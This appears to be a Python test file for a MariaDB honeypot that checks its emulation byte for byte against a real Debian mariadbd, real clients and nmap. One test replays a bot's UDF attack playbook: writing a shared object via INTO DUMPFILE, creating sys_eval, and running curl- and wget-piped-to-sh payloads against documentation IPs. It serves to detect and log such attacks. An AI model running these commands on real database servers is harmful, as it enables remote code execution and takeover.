"""The linux persona's MariaDB (emu/mysql.c) beside Debian 12's own mariadbd:
a plain process on a loopback port with a temporary datadir made by
mariadb-install-db --user=mysql (Debian's postinst accounts: mariadb.sys,
mysql, root), Debian's 50-server.cnf character set, and root given the
persona's password the way README.Debian says (unix_socket OR
mysql_native_password). The same bytes go to both: the greeting, good and
bad logins for a list of users (each judged by its account, or the account
MariaDB's hash picks for an unknown name), caching_sha2_password (the
AuthSwitchRequest), malformed and over-long packets, garbage first packets,
pipelining, early close; answers must be equal byte for byte, and the close
(FIN or RST) the same, except the per-instance values: the thread id and the
20-byte scramble (random per connection), masked here. Then the clients:
PyMySQL and the mariadb client see the same answers to the queries bots
send first; nmap -sV and the mysql-info script see the same server; the
UDF playbook runs on lure only (its accounts accept a guessed password) and
its events and tags are checked."""
import shutil
import socket
import struct
import subprocess
import time
import xml.etree.ElementTree as ET
from concurrent.futures import ThreadPoolExecutor

import pytest

import daemons
from mysql_wire import hresp, native, pkt
from ssh_common import nmap_dbs
from conftest import get, persona

persona("linux")

pymysql = pytest.importorskip("pymysql")

PASSWORD = daemons.MARIADB_PASSWORD  # the persona's mysql.accept for root


# --- the real server -----------------------------------------------------------

@pytest.fixture(scope="module")
def mariadbd():
    """Debian's mariadbd on a free loopback port (daemons.mariadbd): yields
    the port."""
    why = daemons.mariadbd_missing()
    if why:
        pytest.skip(why)
    with daemons.mariadbd() as (_, port):
        yield port


# --- raw protocol ----------------------------------------------------------------

def recvall(s, t=0.4):
    """What comes until t seconds of silence, then <EOF> or <RST>."""
    s.settimeout(t)
    out = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                return out + b"<EOF>"
            out += d
    except socket.timeout:
        return out
    except ConnectionResetError:
        return out + b"<RST>"


def greeting_salt(g):
    v_end = g.index(b"\0", 5)
    p = v_end + 1 + 4
    return g[p:p + 8] + g[p + 8 + 1 + 2 + 1 + 2 + 2 + 1 + 6 + 4:][:12]


def mask(b, salt):
    """Per-instance values: the greeting's thread id and the scramble."""
    out = b
    if b[4:5] == b"\n":
        v_end = b.index(b"\0", 5)
        out = out[:v_end + 1] + b"<ID>" + out[v_end + 5:]
    return out.replace(salt[:8], b"<S8>").replace(salt[8:], b"<S12>").replace(
        b"<S8><S12>", b"<SCRAMBLE>")


def exchange(port, steps):
    """steps(salt) -> list of bytes to send, one answer read after each;
    returns [greeting, answers...] with per-instance values masked."""
    s = socket.create_connection(("127.0.0.1", port))
    try:
        g = recvall(s, 0.5)
        salt = greeting_salt(g)
        out = [mask(g, salt)]
        for step in steps(salt):
            if step is None:  # close early
                break
            s.sendall(step)
            out.append(mask(recvall(s), salt))
            if out[-1].endswith((b"<EOF>", b"<RST>")):
                break
        return out
    finally:
        s.close()


def login(user, pw, plugin=b"mysql_native_password", db=None):
    """A login; a switch request (0xfe) gets the native answer."""
    def steps(salt):
        first = native(pw, salt) if plugin == b"mysql_native_password" else b"\x11" * 32
        yield pkt(1, hresp(user, first, db=db, plugin=plugin))
        yield pkt(3, native(pw, salt))
    return steps


PROBES = {
    "greeting": lambda salt: [],
    "garbage-http": lambda salt: [b"GET / HTTP/1.0\r\n\r\n"],
    "garbage-tls": lambda salt: [b"\x16\x03\x01\x00\x05hello"],
    "command-first": lambda salt: [pkt(0, b"\x03SELECT @@version")],
    "quit-first": lambda salt: [pkt(0, b"\x01")],
    "seq5": lambda salt: [pkt(5, hresp(b"root", b""))],
    "short": lambda salt: [pkt(1, b"\x01\x02")],
    "empty": lambda salt: [pkt(1, b"")],
    "no-protocol41": lambda salt: [pkt(1, b"\x05\x02\x00\x00\x00\x01root\0" + b"12345678")],
    "ssl-request": lambda salt: [pkt(1, struct.pack("<IIB23x", 0x00a8aa0d, 16777216, 45))],
    "user-no-nul": lambda salt: [pkt(1, struct.pack("<IIB23x", 0x00a8a205, 16777216, 45) + b"root")],
    "auth-overrun": lambda salt: [pkt(1, struct.pack("<IIB23x", 0x00a8a205, 16777216, 45)
                                      + b"root\0\x30abc")],
    "early-close": lambda salt: [pkt(1, hresp(b"root", native(b"x", salt)))[:10], None],
    "pipelined": lambda salt: [pkt(1, hresp(b"admin", native(b"x", salt)))
                               + pkt(0, b"\x03SELECT 1")],
    "trailing-junk": lambda salt: [pkt(1, hresp(b"root", native(b"x", salt)) + b"A" * 3000)],
    "long-user": lambda salt: [pkt(1, hresp(b"u" * 200, native(b"x", salt)))],
    "attrs": lambda salt: [pkt(1, hresp(b"admin", native(b"x", salt), db=b"mysql",
                                        attrs=[(b"_client_name", b"libmariadb"),
                                               (b"program_name", b"mysql")]))],
    "leaves-after-switch": lambda salt: [pkt(1, hresp(b"root", native(b"guess", salt),
                                                     db=b"leaver")), None],
    "over-long-head": lambda salt: [b"\xff\xff\x00\x01" + hresp(b"root", native(b"x", salt))],
}
USERS = [b"root", b"mysql", b"mariadb.sys", b"admin", b"test", b"sa", b"user",
         b"guest", b"oracle", b"d", b"", b"ROOT", b"x" * 40]
for u in USERS:
    for pw in (b"wrong", b""):
        PROBES[f"native {u[:12].decode()!r} {pw.decode()!r}"] = login(u, pw)
    PROBES[f"sha2 {u[:12].decode()!r}"] = login(u, b"wrong", b"caching_sha2_password")
PROBES["root right password"] = login(b"root", PASSWORD)
PROBES["root right password, sha2"] = login(b"root", PASSWORD, b"caching_sha2_password")
PROBES["root right password, clear"] = login(b"root", PASSWORD, b"mysql_clear_password")
PROBES["root right password, db"] = login(b"root", PASSWORD, db=b"mysql")
PROBES["root right password, unknown db"] = login(b"root", PASSWORD, db=b"nosuch")


def test_side_by_side(sensor, mariadbd):
    port = sensor.port(3306)
    same, diffs = 0, []
    with ThreadPoolExecutor(8) as pool:
        real = pool.map(lambda st: exchange(mariadbd, st), PROBES.values())
        ours = pool.map(lambda st: exchange(port, st), PROBES.values())
        results = list(zip(PROBES, real, ours))
    for name, a, b in results:
        if a == b:
            same += 1
        else:
            diffs.append(f"{name}:\n  mariadbd {a}\n  lure     {b}")
    print(f"mysql side by side: {same}/{len(PROBES)} probes equal")
    assert not diffs, "\n".join(diffs)
    # the client that left after the switch request: its first answer
    ev = sensor.wait_event("login", network__protocol="mysql", lure__mysql__database="leaver")
    assert get(ev, "event.outcome") == "failure"
    assert get(ev, "lure.auth.hash").startswith("$mysqlna$")


def test_over_long_packet(sensor, mariadbd):
    """A handshake packet of 64 KiB: both read it all, then answer it."""
    def steps(salt):
        body = hresp(b"root", native(b"x", salt))
        body += b"A" * (0x10000 - len(body))
        yield pkt(1, body)
    assert exchange(mariadbd, steps) == exchange(sensor.port(3306), steps)


# --- real clients ----------------------------------------------------------------

QUERIES = ["SELECT @@version", "select @@version_comment limit 1", "SELECT VERSION()",
           "SELECT user()", "SELECT current_user()", "SELECT database()",
           "SELECT @@version_compile_os", "SELECT @@version_compile_machine",
           "SELECT @@plugin_dir", "select @@secure_file_priv", "SHOW DATABASES",
           "SELECT 1", "use mysql", "use nosuch", "xyzzy plugh"]


def pymysql_session(port):
    out = []
    c = pymysql.connect(host="127.0.0.1", port=port, user="root",
                        password=PASSWORD.decode())
    cur = c.cursor()
    for q in QUERIES:
        try:
            cur.execute(q)
            out.append((q, [d[0] for d in cur.description or []], cur.fetchall()))
        except pymysql.MySQLError as e:
            out.append((q, e.args))
    c.ping()
    c.close()
    for user, pw in (("root", "wrong"), ("admin", "admin"), ("test", "")):
        try:
            pymysql.connect(host="127.0.0.1", port=port, user=user, password=pw)
            out.append((user, "logged in"))
        except pymysql.MySQLError as e:
            out.append((user, e.args))
    return out


def test_pymysql(sensor, mariadbd):
    assert pymysql_session(sensor.port(3306)) == pymysql_session(mariadbd)
    logins = sensor.find("login", network__protocol="mysql")
    assert {get(e, "event.outcome") for e in logins} == {"success", "failure"}


def mariadb_client(port, user, pw, sql):
    r = subprocess.run(["mariadb", "-h127.0.0.1", f"-P{port}", f"-u{user}", f"-p{pw}",
                        "--batch", "-e", sql], capture_output=True, timeout=30)
    return r.returncode, r.stdout, r.stderr


def test_mariadb_client(sensor, mariadbd):
    if not shutil.which("mariadb"):
        pytest.skip("needs mariadb-client")
    port = sensor.port(3306)
    sql = "select @@version; show databases; select user(); select @@plugin_dir"
    for user, pw in (("root", PASSWORD.decode()), ("root", "toor"), ("admin", "admin")):
        assert mariadb_client(port, user, pw, sql) == mariadb_client(mariadbd, user, pw, sql)
    ev = sensor.wait_event("login", network__protocol="mysql", event__outcome="success")
    assert get(ev, "lure.mysql.client_name") == "libmariadb"
    assert get(ev, "lure.auth.password") == PASSWORD.decode()


def nmap(ports, xml, datadir=None):
    cmd = ["nmap", "-n", "-Pn", "-sV", "-p", ",".join(map(str, ports)),
           "--script", "mysql-info", "-oX", str(xml), "127.0.0.1"]
    if datadir:
        cmd += ["--datadir", str(datadir)]
    r = subprocess.run(cmd, capture_output=True, timeout=300)
    assert r.returncode == 0, r.stderr.decode()
    found = {}
    for port in ET.parse(xml).getroot().iter("port"):
        svc = port.find("service")
        scripts = {x.get("id"): x.get("output") for x in port.iter("script")}
        found[int(port.get("portid"))] = (
            svc.get("name"), svc.get("product"), svc.get("version"),
            scripts.get("mysql-info"))
    return found


def test_nmap(sensor, mariadbd, tmp_path):
    """nmap -sV and mysql-info: the same service, product, version and script
    output (its Thread ID and Salt masked: per instance)."""
    import re
    if not shutil.which("nmap"):
        pytest.skip("needs nmap")
    port = sensor.port(3306)
    dbs = nmap_dbs()  # Debian 12's nmap 7.93 database, and Debian 13's
    for d in dbs:
        found = nmap([port, mariadbd], tmp_path / "nmap.xml", d)
        norm = {}
        for p, (name, product, version, info) in found.items():
            info = re.sub(r"Thread ID: \d+", "Thread ID: N", info or "")
            info = re.sub(r"Salt: .*", "Salt: S", info)
            norm[p] = (name, product, version, info)
        print(d, norm[port])
        assert norm[port][0] == "mysql" and norm[port][1] in ("MySQL", "MariaDB"), norm
        assert "10.11.19" in norm[port][2], norm
        assert norm[port] == norm[mariadbd], d


# --- a bot's UDF playbook, as bots type it ---------------------------------------

def test_udf_playbook(sensor):
    port = sensor.port(3306)
    c = pymysql.connect(host="127.0.0.1", port=port, user="root", password="root")
    cur = c.cursor()
    cur.execute("SELECT @@version_compile_os")
    assert cur.fetchall() == (("debian-linux-gnu",),)
    cur.execute("SELECT @@plugin_dir")
    plugin_dir = cur.fetchall()[0][0]
    assert plugin_dir == "/usr/lib/mysql/plugin/"
    elf = "0x7f454c46020101000000000000000000" + "00" * 64
    cur.execute(f"SELECT {elf} INTO DUMPFILE '{plugin_dir}x.so'")
    cur.execute("CREATE FUNCTION sys_eval RETURNS STRING SONAME 'x.so'")
    cur.execute("select sys_eval('curl http://198.51.100.7/x.sh|sh')")
    cur.fetchall()
    hexed = "0x" + b"wget http://198.51.100.8/b -O-|sh".hex()
    cur.execute(f"select sys_eval({hexed})")
    assert cur.fetchall() == ((None,),)
    c.close()
    cmds = sensor.wait_count(6, "command", network__protocol="mysql")
    by = {get(e, "lure.command"): e for e in cmds}
    dump = by[f"SELECT {elf} INTO DUMPFILE '{plugin_dir}x.so'"]
    assert set(dump["tags"]) >= {"dumpfile", "elf"}
    assert "udf" in by["CREATE FUNCTION sys_eval RETURNS STRING SONAME 'x.so'"]["tags"]
    ev = by["select sys_eval('curl http://198.51.100.7/x.sh|sh')"]
    assert "udf" in ev["tags"]
    assert get(ev, "lure.indicators.url") == ["http://198.51.100.7/x.sh"]
    assert get(ev, "lure.indicators.ip") == ["198.51.100.7"]
    ev = by[f"select sys_eval({hexed})"]
    assert get(ev, "lure.indicators.url") == ["http://198.51.100.8/b"]
    assert all(get(e, "user.name") == "root" for e in cmds)
    login = sensor.wait_event("login", network__protocol="mysql", event__outcome="success")
    assert get(login, "lure.auth.password") == "root"
    assert get(login, "lure.auth.hash").startswith("$mysqlna$")


def test_connect_timeout(sensor, mariadbd):
    """A handshake left unfinished (a partial packet) is reset after
    connect_timeout (10 s), nothing sent."""
    def probe(port):
        s = socket.create_connection(("127.0.0.1", port))
        s.settimeout(15)
        greeting = s.recv(4096)
        s.sendall(b"\x10\x00\x00\x01root")
        t = time.monotonic()
        out = recvall(s, 14)
        s.close()
        return greeting[:5], out, round(time.monotonic() - t)
    with ThreadPoolExecutor(2) as pool:
        real, ours = pool.map(probe, (mariadbd, sensor.port(3306)))
    assert real == ours == (b"d\x00\x00\x00\n", b"<RST>", 10)
